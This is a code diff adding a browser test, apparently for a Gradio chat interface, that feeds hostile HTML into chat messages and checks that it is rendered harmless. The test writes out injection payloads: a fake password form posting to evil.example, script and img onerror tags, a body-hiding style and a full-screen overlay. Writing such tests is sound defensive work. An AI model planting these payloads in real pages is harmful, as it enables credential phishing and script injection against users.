@@ -99,3 +99,45 @@ def test_examples_and_additional_inputs(context, lite_site):
     page.get_by_text("hello there").click()  # an example in the chatbot runs at once
     expect(bubbles(page).nth(0)).to_have_text("hello there")
     expect(bubbles(page).nth(1)).to_have_text("cheerful reply to hello there after 0 messages", timeout=15_000)
+
+
+HOSTILE_APP = '''
+import gradio as gr
+
+HOSTILE = """<style>body { display: none !important; }</style>
+<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>
+<div style="position:fixed;inset:0;background:red;z-index:9999">cover</div>
+<img src="x" onerror="window.pwned = 1"><script>window.pwned = 2</script> **bold** end"""
+
+def reply(message, history):
+    return [gr.ChatMessage(content=HOSTILE, metadata={"title": "<img src=x onerror='window.pwned=3'>tool"}),
+            HOSTILE]
+
+demo = gr.ChatInterface(reply)
+'''
+
+HOSTILE_CHECK = """() => {
+  const log = document.querySelector('[role=log]');
+  const cover = [...log.querySelectorAll('div')].filter(d => d.textContent.trim() === 'cover');
+  return {
+    styles: log.querySelectorAll('style').length, scripts: log.querySelectorAll('script').length,
+    forms: document.querySelectorAll('.lb-mount form').length,
+    passwords: document.querySelectorAll('.lb-mount input[type=password]').length,
+    fixed: cover.filter(d => getComputedStyle(d).position === 'fixed').length,
+    handlers: [...log.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
+    pwned: window.pwned ?? null, body: getComputedStyle(document.body).display,
+  };
+}"""
+
+
+def test_hostile_html_in_messages_stays_harmless(context, lite_site):
+    page = open_app(context, lite_site.app_url(HOSTILE_APP, GRADIO))
+    page.get_by_placeholder("Type a message...").fill('<img src=x onerror="window.pwned=4">hello')
+    page.get_by_placeholder("Type a message...").press("Enter")
+    expect(chat(page).get_by_text("bold").last).to_be_visible(timeout=15_000)
+    page.wait_for_timeout(500)
+    got = page.evaluate(HOSTILE_CHECK)
+    assert got == {"styles": 0, "scripts": 0, "forms": 0, "passwords": 0, "fixed": 0, "handlers": 0,
+                   "pwned": None, "body": "block"}
+    box(page).fill("still usable")  # nothing covers the app
+    expect(box(page)).to_have_value("still usable")
